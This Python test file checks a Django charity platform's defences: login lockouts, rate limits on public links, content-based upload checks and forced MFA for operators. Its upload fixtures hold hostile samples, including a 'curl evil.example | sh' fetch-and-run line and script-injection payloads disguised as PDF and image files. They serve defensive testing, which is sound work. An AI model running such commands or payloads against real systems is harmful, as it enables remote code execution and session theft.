"""Sign-in and public-form rate limits, uploads judged by content, and operators' forced MFA."""

from __future__ import annotations

import html
import io

import pytest
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django_tenants.utils import schema_context

from accounts.models import User
from tenants.models import Association
from tests.helpers import PASSWORD, client_for
from tests.security.attack import body, client, send
from tests.security.routes import PLATFORM_URLCONF, routes, urls
from tests.security.summary import record
from workflow.models import CaseDocument

REFUSED_EN = "Too many failed login attempts. Try again later."
REFUSED_AR = "تجاوزت الحد المسموح لمحاولة تسجيل الدخول. حاول في وقت لاحق."


def _sign_in(client: Client, email: str, password: str, lang: str = "en"):
    return client.post(f"/accounts/login/?lang={lang}", {"login": email, "password": password})


def _signed_in(client: Client) -> bool:
    return "_auth_user_id" in client.session


# --- sign-in ----------------------------------------------------------------------------------


def test_sixth_wrong_password_locks_the_account_even_against_the_right_one(alpha):
    client = client_for(alpha)
    for _attempt in range(5):
        response = _sign_in(client, alpha.admin_email, "wrong-password-1")
        assert response.status_code == 200
        assert REFUSED_EN not in html.unescape(response.content.decode())
    # Another address (a botnet) is refused too: the limit is on the account.
    elsewhere = client_for(alpha)
    elsewhere.defaults["REMOTE_ADDR"] = "203.0.113.9"
    for who in (client, elsewhere):
        response = _sign_in(who, alpha.admin_email, PASSWORD)
        assert REFUSED_EN in html.unescape(response.content.decode())
        assert not _signed_in(who)
    arabic = _sign_in(client, alpha.admin_email, PASSWORD, lang="ar")
    assert REFUSED_AR in html.unescape(arabic.content.decode())
    # Another member of the association is not locked out by it.
    assert _sign_in(client_for(alpha), alpha.staff_email, PASSWORD).status_code == 302


def test_one_address_trying_many_accounts_is_stopped_after_ten_failures(alpha):
    client = client_for(alpha)
    for number in range(10):
        _sign_in(client, f"nobody{number}@alpha.example", "wrong-password-1")
    response = _sign_in(client, alpha.staff_email, PASSWORD)
    assert REFUSED_EN in html.unescape(response.content.decode())
    assert not _signed_in(client)
    # Someone else, from another address, signs in.
    other = client_for(alpha)
    other.defaults["REMOTE_ADDR"] = "198.51.100.7"
    assert _sign_in(other, alpha.staff_email, PASSWORD).status_code == 302


def test_a_forged_forwarded_address_does_not_escape_the_limit(alpha):
    # Not behind our proxy, X-Forwarded-For is the attacker's to write and is not believed.
    for number in range(10):
        client = client_for(alpha)
        client.defaults["HTTP_X_FORWARDED_FOR"] = f"192.0.2.{number}"
        _sign_in(client, f"nobody{number}@alpha.example", "wrong-password-1")
    client = client_for(alpha)
    client.defaults["HTTP_X_FORWARDED_FOR"] = "192.0.2.200"
    response = _sign_in(client, alpha.staff_email, PASSWORD)
    assert REFUSED_EN in html.unescape(response.content.decode())


def test_an_association_lockout_does_not_lock_the_same_email_elsewhere(alpha, beta):
    """Counts are per association (cache keys carry the schema)."""
    for _attempt in range(6):
        _sign_in(client_for(alpha), "shared@example.org", "wrong-password-1")
    with schema_context(beta.association.schema_name):
        User.objects.create_user("shared@example.org", PASSWORD, role="staff")
    assert _sign_in(client_for(beta), "shared@example.org", PASSWORD).status_code == 302


# --- the public forms -------------------------------------------------------------------------


def test_wrong_status_and_survey_links_are_limited_and_then_even_a_right_one_is_refused(
    world, clock
):
    client = client_for(world.alpha)
    for number in range(20):
        assert client.get(f"/request/{world.reference}/?token=wrong{number}").status_code == 404
    status = client.get(f"/request/{world.reference}/?token={world.status_token}&lang=en")
    assert status.status_code == 429
    assert "Too many wrong links" in status.content.decode()
    assert "ALPHAVICTIM" not in status.content.decode()
    # The clock stands at 09:30: the hour's window ends in 1,800 seconds.
    assert status["Retry-After"] == "1800"
    assert client.get(f"/survey/{world.survey_token}/").status_code == 429
    clock.at = clock.at.replace(minute=50)
    api = client.get(f"/api/v1/requests/{world.reference}/?token={world.status_token}")
    assert api.status_code == 429 and "detail" in api.json()
    assert api["Retry-After"] == "600"
    # The beneficiary on another connection still follows their request.
    other = client_for(world.alpha)
    other.defaults["REMOTE_ADDR"] = "198.51.100.8"
    assert other.get(f"/request/{world.reference}/?token={world.status_token}").status_code == 200


def test_the_request_form_is_limited_per_address(world):
    client = client_for(world.alpha)
    statuses = [client.post("/request/", {"summary": "x"}).status_code for _ in range(11)]
    assert statuses[:10] == [200] * 10 and statuses[10] == 429


# --- uploads ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, content",
    [
        ("report.pdf", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("report.pdf", b"<script>alert(1)</script>"),
        ("scan.png", b"<!doctype html><html><script>alert(1)</script></html>"),
        ("scan.jpg", b"GIF89a<script>alert(1)</script>"),
    ],
)
def test_a_document_is_judged_by_its_content_not_its_name(world, name, content):
    client = client_for(world.alpha, email=world.alpha.staff_email)
    with schema_context(world.schema):
        before = CaseDocument.objects.count()
    response = client.post(
        f"/app/cases/{world.case_id}/documents/?lang=en",
        {"kind": "report", "file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code in (200, 400)
    assert "Upload a PDF, PNG or JPEG file." in html.unescape(response.content.decode())
    with schema_context(world.schema):
        assert CaseDocument.objects.count() == before


def test_an_html_file_named_png_is_refused_as_a_logo(alpha, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    client = client_for(alpha, email=alpha.admin_email)
    page = client.get("/app/settings/?lang=en").content.decode()
    assert 'name="logo"' in page
    fake = io.BytesIO(b"<!doctype html><html><script>alert(document.cookie)</script></html>")
    fake.name = "logo.png"
    response = client.post(
        "/app/settings/?lang=en",
        {"name_ar": alpha.association.name_ar, "name_en": "Alpha Charity", "logo": fake},
    )
    assert response.status_code == 200
    assert "Upload a valid image" in html.unescape(response.content.decode())
    assert not Association.objects.get(slug="alpha").logo
    assert not list(tmp_path.rglob("*.png"))


# --- MFA --------------------------------------------------------------------------------------


@pytest.fixture
def operator(db):
    call_command("create_operator", email="ops@mustafid.example", password=PASSWORD)
    return "ops@mustafid.example"


def _operator_client(email: str) -> Client:
    """Signed in through the sign-in form, as allauth's enrolment wants a fresh sign-in."""
    signed_in = client("localhost")
    assert _sign_in(signed_in, email, PASSWORD).status_code == 302
    return signed_in


ENROLMENT = "/accounts/2fa/totp/activate/"


def test_an_operator_without_mfa_reaches_nothing_but_enrolment(operator, world):
    """Every platform route (the console included), GET and POST, sends them to enrolment."""
    exempt = ("/accounts/", "/healthz", "/readyz")
    tried = 0
    signed_in = _operator_client(operator)
    for route in routes(PLATFORM_URLCONF):
        for url in urls(route, world, PLATFORM_URLCONF):
            if url.startswith(exempt):
                continue
            for method in route.methods():
                response = send(signed_in, method, url)
                tried += 1
                assert response.status_code == 302, f"{method} {url}: {response.status_code}"
                assert response["Location"] == ENROLMENT, f"{method} {url}"
    assert tried >= 58  # SECURITY.md's claim: every platform route, GET and POST at least
    # Enrolment itself opens, and with a TOTP device the console does.
    # Enrolment opens at once: the sign-in a moment ago counts as recent authentication.
    enrolment = signed_in.get(ENROLMENT)
    assert enrolment.status_code == 200
    assert 'autocomplete="one-time-code"' in enrolment.content.decode()
    with schema_context("public"):
        TOTP.activate(User.objects.get(email=operator), generate_totp_secret())
    # Enrolled, the operator is past this gate (the console may still ask for a fresh code).
    console = signed_in.get("/console/")
    assert console.get("Location") != ENROLMENT, body(console)[:500]
    assert console.status_code == 200 or console["Location"].startswith("/accounts/2fa/")
    record("MFA", f"{tried} platform requests by an operator without MFA: all sent to enrolment")
